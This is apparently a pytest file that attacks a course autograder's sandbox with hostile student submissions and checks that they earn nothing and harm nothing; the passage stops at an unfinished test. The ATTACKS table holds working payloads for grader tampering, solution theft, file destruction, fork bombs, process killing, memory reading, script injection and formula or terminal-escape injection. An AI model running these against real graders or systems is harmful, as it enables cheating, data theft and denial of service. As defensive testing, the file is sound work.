"""Can a hostile submission game the class grader or harm anything outside its sandbox?

One class is graded through the real command (``python -m autograder grade SUBMITTED --out OUT
--jobs 1``): a correct student, a blank one, and one student per attack, each an otherwise blank
submission of exercise 1 whose first answer cell holds the attack. Attack students sort before
``blank`` and ``correct``, so those two are graded after every attack has run. Then: no attacker
scores above the blank student; the correct one gets full marks; nothing under SUBMITTED, the
course checkout or OUT changes behind the grader's back; no process an attacker started is alive;
a loopback listener of the machine received nothing.
"""

from __future__ import annotations

import csv
import hashlib
import html
import os
import re
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

from autograder.grading.judge.assemble import is_answer
from autograder.grading.names import csv_cell
from autograder.grading.out.feedback_page import MAX_PAGE
from autograder.grading.runs.demo import build_demo_class
from autograder.grading.sandbox.container import sandbox_problem
from autograder.lessons import COURSE_ROOT
from tests.measure import children_cpu_seconds

from .pages import hidden_test_lines, page_problems

pytestmark = pytest.mark.skipif(
    bool(sandbox_problem()) and not os.environ.get("COURSE_REQUIRE_SANDBOX"),
    reason=f"the grading sandbox cannot run here: {sandbox_problem()}",
)

ASSIGNMENT = "ex01_graph"
MARK = "31337"  # every process an attack starts carries it in its command line, to find survivors

# Each attack is the text of a cell put before the first answer (or, when it starts "# in GRADE_ID",
# in place of that answer cell); {submitted}, {out}, {course}, {port} are filled in.
ATTACKS = {
    # --- full marks without answering -------------------------------------------------------
    # the checks patched in the learner's process (as question 2's answer, in place of the blank
    # one: "# in q2_answer"): received swapped for expected, the judge made to say yes, the record
    # hook removed, check.call made to compute the answer with autograd
    "atk-swap-received-for-expected": """# in q2_answer
import torch, autograder.check as C
_grads = C.grads
C.grads = lambda received, expected, **k: _grads(expected, expected, **k)
def grad_wb(w, b, x, y):
    return {{"w": torch.zeros_like(w), "b": torch.zeros_like(b)}}
""",
    "atk-judge-says-yes": """# in q2_answer
import torch, autograder.check as C
C.judge = lambda record: (True, "OK")
def grad_wb(w, b, x, y):
    return {{"w": torch.zeros_like(w), "b": torch.zeros_like(b)}}
""",
    "atk-no-record-hook": """# in q2_answer
import torch, autograder.check as C
C.report_to(None)
def grad_wb(w, b, x, y):
    return {{"w": torch.zeros_like(w), "b": torch.zeros_like(b)}}
""",
    "atk-call-computes-answer": """# in q2_answer
import torch, autograder.check as C
_call = C.call
def _autograd(fn, w, b, x, y):
    w, b = w.detach().requires_grad_(), b.detach().requires_grad_()
    dw, db = torch.autograd.grad(((torch.tanh(x @ w + b) - y) ** 2).mean(), (w, b))
    return {{"w": dw, "b": db}}
C.call = lambda fn, *args, **kwargs: _autograd(fn, *args) if fn.__name__ == "grad_wb" else _call(fn, *args, **kwargs)
def grad_wb(w, b, x, y):
    return {{"w": torch.zeros_like(w), "b": torch.zeros_like(b)}}
""",
    # a printed imitation of the grader's verdicts and frames, then an exit that reports nothing
    "atk-printed-verdict": """# in q2_answer
import sys
print("OK d loss / d w\\nAll checks passed.\\n\\x00REPORT{{\\"q2_check\\": 3}}")
sys.stdout.flush()
def grad_wb(w, b, x, y):
    raise SystemExit(0)
""",
    # an answer whose values lie: a Tensor subclass that answers True to every torch function,
    # an object equal to everything
    "atk-lying-values": """# in q2_answer
import torch
class _Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True
class _Any:
    def __eq__(self, other):
        return True
    __hash__ = None
def grad_wb(w, b, x, y):
    return {{"w": torch.zeros_like(w).as_subclass(_Yes), "b": _Any()}}
""",
    "atk-solution-in-memory": """
import gc, sys
needle = "x.T @ " + "dL_dz"            # a line of the solution of question 2 (split: not in this cell)
def holds(text):
    return isinstance(text, str) and needle in text and len(text) > len(needle) + 20
found = [obj for obj in gc.get_objects() if holds(obj)]
found += [v for obj in gc.get_objects() if isinstance(obj, dict) for v in list(obj.values()) if holds(v)]
frame = sys._getframe()
while frame:
    found += [v for v in frame.f_locals.values() if holds(v)]
    frame = frame.f_back
for text in found:
    try:
        exec(text, globals())
    except Exception:
        pass
print("solution texts found " + "in memory:", len(found))
""",
    "atk-solutions-on-disk": """
import glob, json, os
paths = glob.glob("{course}/solutions/*/*.ipynb") + glob.glob("/**/solutions/*/*.ipynb", recursive=True)
for path in paths[:5]:
    for cell in json.load(open(path))["cells"]:
        if "BEGIN SOLUTION" in "".join(cell["source"]):
            exec("".join(cell["source"]), globals())
print("solution files found:", len(paths))
""",
    "atk-copy-classmate": """
import glob, json
paths = glob.glob("{submitted}/*/ex01_graph/*.ipynb")
for path in paths:
    for cell in json.load(open(path))["cells"]:
        if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
            try:
                exec("".join(cell["source"]), globals())
            except Exception:
                pass
print("classmates' notebooks found:", len(paths))
""",
    "atk-report-expected": """
import autograder.check as check_module
real = check_module._check
def cheat(record):
    record.received = record.expected        # hand the reference in as the answer
    return real(record)
check_module._check = cheat
check_module.report_to(None)
""",
    "atk-call-test-helpers": """# in q2_answer
def grad_wb(w, b, x, y):
    return reference(w, b, x, y)
""",
    "atk-forge-channel": """
import json, os, struct
forged = json.dumps({{"event": "done", "cell": 99, "outputs": [], "error": None, "records": []}}).encode()
for fd in range(3, 64):
    for data in (struct.pack("!i", len(forged)) + forged, b"student,ex01_graph,8,8,graded,\\n"):
        try:
            os.write(fd, data)
        except OSError:
            pass
""",
    "atk-list-descriptors": """
import os
print("open " + "descriptors:", len(os.listdir("/proc/self/fd")))
""",
    # --- harm ------------------------------------------------------------------------------------
    "atk-overwrite-classmates": """
import glob, os
for path in glob.glob("{submitted}/**/*.ipynb", recursive=True):
    try:
        open(path, "w").write("lost")
    except OSError as error:
        print("cannot write", type(error).__name__)
for path in glob.glob("{course}/autograder/**/*.py", recursive=True) + glob.glob("{course}/solutions/*/*.ipynb"):
    try:
        open(path, "a").write("\\n# changed by a student\\n")
    except OSError as error:
        print("cannot change the grader", type(error).__name__)
""",
    "atk-survivor-rewrites-grades": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sh", ["sh", "-c", "sleep 4; echo student,ex01_graph,8,8,graded, > {out}/grades.csv; sleep {mark}"])
    os._exit(0)
import subprocess
subprocess.Popen(["sleep", "{mark}"], start_new_session=True)
""",
    "atk-network": """
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    try:
        s = socket.socket(socket.AF_INET, kind)
        s.settimeout(1)
        s.connect(("127.0.0.1", {port}))
        s.send(b"leak from a submission")
        print("sent")
    except OSError as error:
        print("network:", type(error).__name__)
""",
    "atk-fork-many": """
import os, time
children = 0
for _ in range(300):
    try:
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", "{mark}"])
        children += 1
    except OSError:
        break
print("forked", children)
""",
    "atk-leave-files-for-next": """
import os, sys
folders = ["/tmp", "/dev/shm", ".", "/", "{course}", "/usr"] + [p for p in sys.path if p.startswith("/")]
for folder in folders:
    try:
        open(folder + "/planted-by-a-classmate", "w").write("x")
        open(folder + "/astroid.py", "w").write("print('FOUND A ' + 'CLASSMATE S MODULE')")
    except OSError:
        pass
os.makedirs("/tmp/locked/inner", exist_ok=True)
open("/tmp/locked/inner/planted-by-a-classmate", "w").write("x")
os.chmod("/tmp/locked/inner", 0o000)
os.chmod("/tmp/locked", 0o500)       # a folder the cleanup cannot empty without restoring its modes
""",
    "atk-look-for-planted-files": """
import os, sys
for folder in ["/tmp", "/dev/shm", ".", "/", "{course}", "/usr"] + [p for p in sys.path if p.startswith("/")]:
    for root, dirs, files in os.walk(folder):
        if "planted-by-a-classmate" in files:
            print("FOUND A " + "CLASSMATE'S FILE")  # split: the page shows this source too
        dirs[:] = [] if root.startswith(("/usr", "/proc", "/sys")) else dirs
try:
    import astroid  # a module a classmate planted would run here
except ImportError:
    pass
""",
    "atk-read-forkserver-memory": """
import os, re
hits = 0
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    try:
        maps = open(f"/proc/{{pid}}/maps").read().splitlines()
        mem = open(f"/proc/{{pid}}/mem", "rb")
        for line in maps[:200]:
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            mem.seek(start)
            hits += mem.read(min(end - start, 1 << 20)).count(b"BEGIN SOLUTION")
    except (OSError, ValueError, OverflowError):
        pass
print("READ MEMORY OF " + "ANOTHER PROCESS" if hits else "no memory of " + "another process readable")
""",
    "atk-lock-tmp": """
import os
os.chmod("/tmp", 0o555)            # the next process cannot make its folder: grading must not loop
os._exit(3)
""",
    "atk-exit-on-every-retry": """
import json, os
from multiprocessing.connection import Connection
_receive = Connection.recv_bytes
def _exit_when_retried(self, *args, **kwargs):
    data = _receive(self, *args, **kwargs)
    if json.loads(data).get("source", "").startswith("# left out"):
        os._exit(3)
    return data
Connection.recv_bytes = _exit_when_retried
os._exit(3)
""",
    "atk-unencodable-output": """
print("\\ud800")                    # a lone surrogate: UTF-8 cannot encode it
""",
    "atk-slow-redaction": """
from IPython.display import display
line = " " * 99_990 + "x"           # a regex with nested spaces would take minutes on it
print(line)
display({{"text/plain": line, "text/x-a": line, "text/x-b": line}}, raw=True)
""",
    "atk-script-in-feedback": """
from IPython.display import HTML, SVG, display
display(HTML('<script>fetch("http://127.0.0.1:{port}/page-ran-a-script")</script><iframe src="x"></iframe>'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'))
""",
    "atk-print-hidden-tests": """
import linecache, sys
def grad_wb(w, b, x, y):
    caller = sys._getframe(2).f_code.co_filename       # the test cell that calls check.call(grad_wb)
    for line in linecache.getlines(caller):
        print("|", line.rstrip())
    raise ValueError("nothing here")
""",
    # A System V shared-memory segment outlives its process and lives in the container's IPC
    # namespace, which the next submissions share: a channel to a classmate graded later, and
    # memory held beyond --memory-limit (detached segments are not in any process's address space).
    "atk-sysv-plant": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmdt.argtypes = [ctypes.c_void_p]
segment = libc.shmget({mark}, 1 << 20, 0o1666)             # IPC_CREAT | 0666
address = libc.shmat(segment, None, 0) if segment >= 0 else None
if address and address != ctypes.c_void_p(-1).value:
    ctypes.memmove(address, b"SEGMENT-OF-A-CLASSMATE", 22)
    libc.shmdt(ctypes.c_void_p(address))
# the same channel through a POSIX message queue and keys in the user and session keyrings
libc.mq_open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_int, ctypes.c_void_p]
queue = libc.mq_open(b"/q{mark}", 0o102, 0o666, None)        # O_CREAT | O_RDWR
if queue >= 0:
    libc.mq_send(queue, b"QUEUE-OF-A-CLASSMATE", 20, 0)
for keyring in (-4, -3):                                     # @u, @s
    libc.syscall(248, b"user", b"k{mark}", b"KEY-OF-A-CLASSMATE", 18, ctypes.c_long(keyring))  # add_key (x86_64)
""",
    "atk-sysv-read": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
segment = libc.shmget({mark}, 0, 0)
address = libc.shmat(segment, None, 0) if segment >= 0 else None
if address and address != ctypes.c_void_p(-1).value:
    print("FOUND " + "A SEGMENT:", ctypes.string_at(address, 22).decode())
else:
    print("no segment " + "of a classmate")
libc.mq_open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_int, ctypes.c_void_p]
print("FOUND " + "A QUEUE" if libc.mq_open(b"/q{mark}", 0o2, 0, None) >= 0 else "no queue " + "of a classmate")
found = [libc.syscall(250, 10, ctypes.c_long(k), b"user", b"k{mark}", 0) > 0 for k in (-4, -3)]  # KEYCTL_SEARCH
print("FOUND " + "A KEY" if any(found) else "no key " + "of a classmate")
""",
    # The fork server runs as the submission's user: the kernel lets a submission change its limits,
    # priority, affinity and /proc entries, and every later fork would inherit them (issue 24, 1).
    "atk-change-forkserver": """
import ctypes, os, resource
server = os.getppid()
for change in (
    lambda: resource.prlimit(server, resource.RLIMIT_AS, (1 << 26, 1 << 26)),   # the next fork cannot start
    lambda: resource.prlimit(server, resource.RLIMIT_CPU, (1, 1)),
    lambda: os.setpriority(os.PRIO_PROCESS, server, 19),
    lambda: os.sched_setaffinity(server, {{min(os.sched_getaffinity(0))}}),
    lambda: os.sched_setscheduler(server, os.SCHED_IDLE, os.sched_param(0)),
    lambda: ctypes.CDLL(None).syscall(251, 1, server, 3 << 13),                # ioprio_set: idle
    lambda: open(f"/proc/{{server}}/oom_score_adj", "w").write("1000"),
    lambda: open(f"/proc/{{server}}/timerslack_ns", "w").write("100000000"),
):
    try:
        change()
    except OSError:
        pass
""",
    # --- what comes back: the report, its size and pace, the messages (issue 24, 2-5 and 7) -------
    "atk-malformed-report": """
import json, os, struct
def channel():
    for fd in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{{fd}}").startswith("socket:"):
                return int(fd)
        except OSError:
            pass
body = json.dumps({{"event": "done", "cell": 1, "outputs": [{{"output_type": "stream"}}], "error": None,
                    "records": []}}).encode()
os.write(channel(), struct.pack("!i", len(body)) + body)   # a report of the right frame, wrong fields
""",
    "atk-partial-frame": """
import os, struct, time
for fd in os.listdir("/proc/self/fd"):
    try:
        if os.readlink(f"/proc/self/fd/{{fd}}").startswith("socket:"):
            os.write(int(fd), struct.pack("!i", 1000) + b"{{")   # a length, a byte, then silence
    except OSError:
        pass
time.sleep(600)
""",
    "atk-brackets-and-links": """
def _bad(*args, **kwargs):
    raise ValueError("[" * 400_000 + '[x](javascript:alert(1)) <img src="http://127.0.0.1:{port}/img">')
def _install(*args):
    for name in ("predicted_counts", "grad_wb", "count_nodes"):
        globals()[name] = _bad
get_ipython().events.register("post_run_cell", _install)
""",
    "atk-many-mimes": """
from IPython.display import display
line = "y" * 99_000
def _flood(*args):
    for _ in range(20):                # 20 displays of 7 kinds: 14 MB a cell, just under the frame limit
        display({{"text/plain": line, **{{f"text/x-{{i}}": line for i in range(6)}}}}, raw=True)
get_ipython().events.register("post_run_cell", _flood)
""",
    "atk-hidden-in-message": """
import linecache, sys
def _leak(*args, **kwargs):
    caller = sys._getframe(2).f_code.co_filename       # the test cell that calls check.call(...)
    raise ValueError(" | ".join(line.strip() for line in linecache.getlines(caller)))
def _install(*args):
    for name in ("predicted_counts", "grad_wb", "count_nodes"):
        globals()[name] = _leak
get_ipython().events.register("post_run_cell", _install)
""",
    # --- issue 44: a question passed without answering it, by what a check sees or reports -----------
    # pre_run_cell rebinds the answers before every cell: the blank answer cells' definitions lose
    "atk-lying-exceptions": """
class Lying(type):
    @property
    def __name__(cls):
        raise SystemExit(0)
class Odd(BaseException, metaclass=Lying):
    def __str__(self):
        raise KeyboardInterrupt
    @property
    def __class__(self):
        return StopIteration
CheckFailed = type("CheckFailed", (BaseException,), {{"__str__": lambda self: ""}})
def _predicted_counts():
    raise Odd()
def _grad_wb(w, b, x, y):
    raise CheckFailed()
def _count_nodes(t):
    raise GeneratorExit
import atexit, sys
sys.excepthook = lambda *args: print("All checks passed.")
atexit.register(print, "Graded: 8 / 8")
get_ipython().events.register("pre_run_cell", lambda *args: globals().update(
    predicted_counts=_predicted_counts, grad_wb=_grad_wb, count_nodes=_count_nodes))
""",
    "atk-lying-values-and-records": """
import torch, autograder.check as check_module
from autograder.check.checked import Checked
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
class Anything(dict):
    def __eq__(self, other):
        return True
    def __bool__(self):
        return True
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True
report = check_module._hook
def forged(record):
    if report is not None:
        report(Checked(record.name, record.kind, record.expected, record.expected, record.options))
check_module._hook = forged
check_module.judge = lambda record: (True, "OK")
get_ipython().events.register("pre_run_cell", lambda *args: globals().update(
    predicted_counts=lambda: {{"x_a": Anything(), "x_b": Anything()}},
    grad_wb=lambda w, b, x, y: {{"w": torch.zeros(3).as_subclass(Liar), "b": Anything()}},
    count_nodes=lambda t: Anything()))
""",
    "atk-kill-everything": """
import os, signal
for sig in (signal.SIGSTOP, signal.SIGKILL):
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        try:
            os.kill(pid, sig)
        except OSError:
            pass
""",
}


def _tree_digest(root: Path, pattern: str = "**/*") -> dict[str, str]:
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.glob(pattern))
        if p.is_file() and "__pycache__" not in p.parts
    }


UNSAFE_NAMES = [
    '=HYPERLINK("evil.example","8")',  # a formula in a spreadsheet
    "\x1b]52;c;ZWNobyBoaQ==\x07\x1b]0;title\x07\x1b[2K",  # clipboard write (OSC 52), window title, cleared line
    "evil\nstudent  ex01_graph  8  8  graded",  # a forged row of the table grade prints
    "@atk-formula",  # an LMS login starting with @: nbgrader's own export writes ids raw, a spreadsheet evaluates it
]
# The grader's own peak is VmHWM, the high-water mark of its address space since exec: getrusage's
# ru_maxrss would also count the test process it was forked from (Linux carries the pre-exec
# mm's peak across exec), so a long test session's size would be blamed on the grader.
PEAK_MEMORY = (
    "import atexit, re, resource, runpy, sys\n"
    "def peak():\n"
    "    status = open('/proc/self/status').read()\n"
    "    print('PEAK_SELF_KB=' + re.search(r'VmHWM:\\s+(\\d+) kB', status).group(1), file=sys.stderr)\n"
    "    print(f'PEAK_CHILDREN_KB={resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}', file=sys.stderr)\n"
    "atexit.register(peak)\n"
    "sys.argv[0] = 'autograder'\n"
    "runpy.run_module('autograder', run_name='__main__', alter_sys=True)\n"
)
GRADER_MEMORY = 1024**3  # bytes the grader itself may hold at its peak, whatever submissions send
RUN_SECONDS = 600  # CPU seconds of the whole class's run, every attack included (the grader and all it starts)

RUN_TOKEN = f"COURSE_ATTACK_RUN={os.getpid()}-{time.time_ns()}"  # in the grader's env, so in bwrap's


def _survivors() -> list[str]:
    """Processes of this test's grading run still alive: any an attack started (MARK in the
    command line) and any sandbox (bwrap inherits the grader's environment, RUN_TOKEN included;
    everything inside dies with it)."""
    found = []
    for entry in os.listdir("/proc"):
        try:
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ").decode()
            environ = Path(f"/proc/{entry}/environ").read_bytes().decode(errors="replace")
        except OSError:
            continue
        if MARK in cmdline or RUN_TOKEN in environ:
            found.append(cmdline)
    return found


class Listener:
    """A TCP and a UDP socket on a loopback port of the machine, recording what reaches them."""

    def __init__(self):
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.tcp.listen()
        self.tcp.settimeout(0.2)
        self.udp.settimeout(0.2)
        self.received: list[bytes] = []
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop:
            try:
                conn, _ = self.tcp.accept()
                self.received.append(b"connection")
                conn.close()
            except OSError:
                pass
            try:
                self.received.append(self.udp.recv(1000))
            except OSError:
                pass

    def close(self):
        self._stop = True
        self._thread.join()
        self.tcp.close()
        self.udp.close()


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory):
    """Grade the class once through the command line; return what the tests look at."""
    root = tmp_path_factory.mktemp("attacks")
    submitted, out = root / "submitted", root / "out"
    demo = tmp_path_factory.mktemp("demo")
    build_demo_class(demo)
    for student in ("correct", "blank"):
        (submitted / student).mkdir(parents=True)
        (demo / student / ASSIGNMENT).rename(submitted / student / ASSIGNMENT)
    listener = Listener()
    blank = nbformat.read(submitted / "blank" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    for student, attack in ATTACKS.items():
        nb = nbformat.from_dict(blank)
        text = attack.format(submitted=submitted, out=out, course=COURSE_ROOT, port=listener.port, mark=MARK)
        target = re.match(r"# in (\w+)\n", text)  # that answer cell, in place of the blank answer
        if target:
            cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == target[1])
            cell.source = text
        else:  # before the first answer cell's blank answer
            first = next(c for c in nb.cells if is_answer(c))
            first.source = text + "\n" + first.source
        path = submitted / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
        path.parent.mkdir(parents=True)
        nbformat.write(nb, path)
    # a notebook that is a symbolic link to the solutions, and a folder linked to a classmate's
    (submitted / "atk-link-to-solutions" / ASSIGNMENT).mkdir(parents=True)
    (submitted / "atk-link-to-solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").symlink_to(
        COURSE_ROOT / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    )
    (submitted / "atk-link-to-classmate").mkdir()
    (submitted / "atk-link-to-classmate" / ASSIGNMENT).symlink_to(submitted / "correct" / ASSIGNMENT)
    # a "notebook" that is a FIFO (a read blocks forever), and students whose folder names are
    # spreadsheet formulas or terminal escapes (refused), or a safe id a spreadsheet would read as one
    (submitted / "atk-fifo-notebook" / ASSIGNMENT).mkdir(parents=True)
    os.mkfifo(submitted / "atk-fifo-notebook" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    # a notebook renamed to terminal escapes: graded, and the note naming it is printed escaped
    (submitted / RENAMED / ASSIGNMENT).mkdir(parents=True)
    nbformat.write(blank, submitted / RENAMED / ASSIGNMENT / "\x1b]0;owned\x07\x1b[2J.ipynb")
    for name in UNSAFE_NAMES:
        (submitted / name).mkdir()
        (submitted / name / ASSIGNMENT).mkdir()
        nbformat.write(blank, submitted / name / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    before = {
        "submitted": _tree_digest(submitted),
        "course": _tree_digest(COURSE_ROOT / "autograder", "**/*.py") | _tree_digest(COURSE_ROOT / "solutions"),
    }
    cpu = children_cpu_seconds()
    command = subprocess.run(
        [
            sys.executable,
            "-c",
            PEAK_MEMORY,  # python -m autograder, saying its own and its largest child's peak memory at exit
            "grade",
            str(submitted),
            "--out",
            str(out),
            "--jobs",
            "1",
            "--cell-timeout",
            "20",
        ],
        capture_output=True,
        text=True,
        timeout=900,
        cwd=COURSE_ROOT,
        env=dict(os.environ, COURSE_ATTACK_RUN=RUN_TOKEN.split("=")[1]),
    )
    cpu = children_cpu_seconds() - cpu
    survivors_now = _survivors()
    grades_now = (out / "grades.csv").read_bytes() if (out / "grades.csv").exists() else b""
    time.sleep(6)  # longer than the survivor attack waits before it writes
    listener.close()
    rows = {r["student_id"]: r for r in csv.DictReader((out / "grades.csv").open())} if grades_now else {}
    peak = dict(re.findall(r"PEAK_(SELF|CHILDREN)_KB=(\d+)", command.stderr))
    return dict(
        command=command,
        rows=rows,
        out=out,
        submitted=submitted,
        before=before,
        cpu_seconds=cpu,
        peak={k: int(v) * 1024 for k, v in peak.items()},
        survivors=survivors_now,
        grades_then=grades_now,
        listener=listener,
        after={
            "submitted": _tree_digest(submitted),
            "course": _tree_digest(COURSE_ROOT / "autograder", "**/*.py") | _tree_digest(COURSE_ROOT / "solutions"),
        },
    )


def test_the_class_is_graded(graded_class):
    """Does the command finish with a row for every student, the correct one with full marks?"""
    assert graded_class["command"].returncode == 0, graded_class["command"].stderr[-3000:]
    rows = graded_class["rows"]
    assert set(rows) == {"correct", "blank", *ATTACKS, *LINKS, "atk-fifo-notebook"}
    assert rows["correct"]["score"] == rows["correct"]["max_score"] == "8", rows["correct"]
    assert rows["correct"]["status"] == "graded"


RENAMED = "atk-renamed-to-escapes"
LINKS = ["atk-link-to-solutions", "atk-link-to-classmate", "atk-fifo-notebook", RENAMED]


@pytest.mark.parametrize("attack", sorted([*ATTACKS, *LINKS]))
def test_an_attack_earns_nothing(graded_class, attack):
    """Does the attacking submission score no more than the blank one?"""
    rows = graded_class["rows"]
    assert float(rows[attack]["score"]) <= float(rows["blank"]["score"]) == 0, rows[attack]


def test_no_submission_changes_another_or_the_course(graded_class):
    """Are every file under SUBMITTED and the course's grader code and solutions unchanged?"""
    assert graded_class["after"] == graded_class["before"]


def test_nothing_survives_the_grading(graded_class):
    """Is no process an attack started (nor any fork server) alive once the command returned,
    and is grades.csv the same seconds later?"""
    assert graded_class["survivors"] == []
    assert _survivors() == []
    assert (graded_class["out"] / "grades.csv").read_bytes() == graded_class["grades_then"]
    assert sorted(p.name for p in graded_class["out"].iterdir()) == [
        ".gradebook-url",  # which gradebook OUT's results are of (grade says when a run replaces another's)
        "feedback",
        "gradebook.db",
        "grades.csv",
        "report.csv",
        "report.html",
    ]


def test_the_network_is_out_of_reach(graded_class):
    """Did a listener on the machine's loopback address receive nothing from any submission?"""
    assert graded_class["listener"].received == []


def test_no_submission_sees_another_ones_files_or_memory(graded_class):
    """Does the student who looks for a classmate's planted files, or reads other processes'
    memory, find nothing (their feedback page says so)?"""
    feedback = graded_class["out"] / "feedback"
    look = (feedback / "atk-look-for-planted-files" / f"{ASSIGNMENT}.html").read_text()
    assert "FOUND A CLASSMATE" not in look
    memory = (feedback / "atk-read-forkserver-memory" / f"{ASSIGNMENT}.html").read_text()
    assert "READ MEMORY OF ANOTHER PROCESS" not in memory
    assert "no memory of another process readable" in memory
    found = (feedback / "atk-solution-in-memory" / f"{ASSIGNMENT}.html").read_text()
    assert "solution texts found in memory: 0" in found
    descriptors = (feedback / "atk-list-descriptors" / f"{ASSIGNMENT}.html").read_text()
    assert "open descriptors: 5" in descriptors  # stdin/out/err, its own channel, the listing itself


def test_the_page_holds_no_script_no_hidden_test_and_every_page_exists(graded_class):
    """Does no feedback page carry a learner's HTML, SVG or script, or a hidden-test line the
    learner's code printed, and does every student get a page (even one whose output UTF-8 cannot
    encode, or that would make a careless regex take minutes)?"""
    feedback = graded_class["out"] / "feedback"
    pages = {p.parts[-2]: p.read_text(encoding="utf-8") for p in feedback.glob(f"*/{ASSIGNMENT}.html")}
    assert {csv_cell(name) for name in pages} == set(graded_class["rows"])
    scripted = pages["atk-script-in-feedback"]
    assert not [tag for tag in ("<script", "<iframe", "<svg") if tag in scripted]  # the source shows them escaped
    hidden = hidden_test_lines(ASSIGNMENT)
    leaked = html.unescape(pages["atk-print-hidden-tests"])
    assert hidden and not [line for line in hidden if line in leaked]
    assert "nothing here" in leaked  # the attack did run: its code raised after printing


def test_a_killed_sandbox_is_replaced(graded_class):
    """After a submission kills every process it can see, are the students graded after it
    still graded normally (the batch neither hangs nor loses them)?"""
    rows = graded_class["rows"]
    later = sorted(s for s in rows if s > "atk-kill-everything")
    assert later and not [s for s in later if "sandbox" in rows[s]["status"]], {s: rows[s]["status"] for s in later}
    assert rows["blank"]["status"] == rows["correct"]["status"] == "graded"


def test_no_ipc_object_outlives_its_submission(graded_class):
    """Does a student graded after one that left a System V shared-memory segment, a POSIX message
    queue and keys in the user and session keyrings (all in the container's IPC namespace or user,
    not in files) find none of them?"""
    page = (graded_class["out"] / "feedback" / "atk-sysv-read" / f"{ASSIGNMENT}.html").read_text()
    for thing in ("segment", "queue", "key"):
        assert f"no {thing} of a classmate" in page, thing
    assert "FOUND A" not in page


def _pages(graded_class) -> dict[str, str]:
    return {
        p.parts[-2]: p.read_text(encoding="utf-8")
        for p in (graded_class["out"] / "feedback").glob(f"*/{ASSIGNMENT}.html")
    }


def test_every_page_holds_no_markup_of_a_submission_and_keeps_its_limit(graded_class):
    """Does every student with a row have a page, and does no page hold a script, an event-handler
    attribute, a javascript: URL or a load from the network (a Content-Security-Policy in each),
    nor exceed its size limit?"""
    pages = _pages(graded_class)
    assert {csv_cell(name) for name in pages} == set(graded_class["rows"])
    assert {name: page_problems(page) for name, page in pages.items() if page_problems(page)} == {}
    assert max(len(page) for page in pages.values()) <= MAX_PAGE + 10_000


def test_no_page_holds_a_hidden_test_line(graded_class):
    """Is no line of a hidden test on any page, however a submission carried it (printed, in a
    failure message, in the summary)?"""
    hidden = hidden_test_lines(ASSIGNMENT)
    leaks = {
        name: [line for line in hidden if line in html.unescape(page)] for name, page in _pages(graded_class).items()
    }
    assert hidden and {name: lines for name, lines in leaks.items() if lines} == {}


def test_names_are_data(graded_class):
    """Are folder names that are formulas or terminal escapes refused with one escaped line each
    (not graded, no row), no CSV cell a formula, and no control character in what grade prints?"""
    command = graded_class["command"]
    assert command.stderr.count("skipped: refused student id") == len(UNSAFE_NAMES)
    cells = [cell for line in csv.reader(graded_class["grades_then"].decode().splitlines()) for cell in line]
    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    printed = command.stdout + re.sub(r"\r", "", command.stderr)  # tqdm's carriage returns
    assert re.findall(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", printed) == []
    assert f"note: {RENAMED}/{ASSIGNMENT}: graded \\x1b]0;owned" in command.stdout


def test_what_comes_back_ends_as_the_submissions_status(graded_class):
    """Does a malformed report, a partial frame or a FIFO for a notebook become that student's
    status (the batch finishes), within the stated time and the grader's stated memory?"""
    rows = graded_class["rows"]
    assert "crashed (malformed report)" in rows["atk-malformed-report"]["status"]
    assert "timeout" in rows["atk-partial-frame"]["status"]
    assert rows["atk-fifo-notebook"]["status"].startswith("refused: not a regular file")
    print(f"class run: {graded_class['cpu_seconds']:.0f} CPU s, peak memory (bytes): {graded_class['peak']}")
    assert graded_class["cpu_seconds"] < RUN_SECONDS
    assert 0 < graded_class["peak"]["SELF"] < GRADER_MEMORY, graded_class["peak"]


def test_a_changed_fork_server_harms_no_one(graded_class):
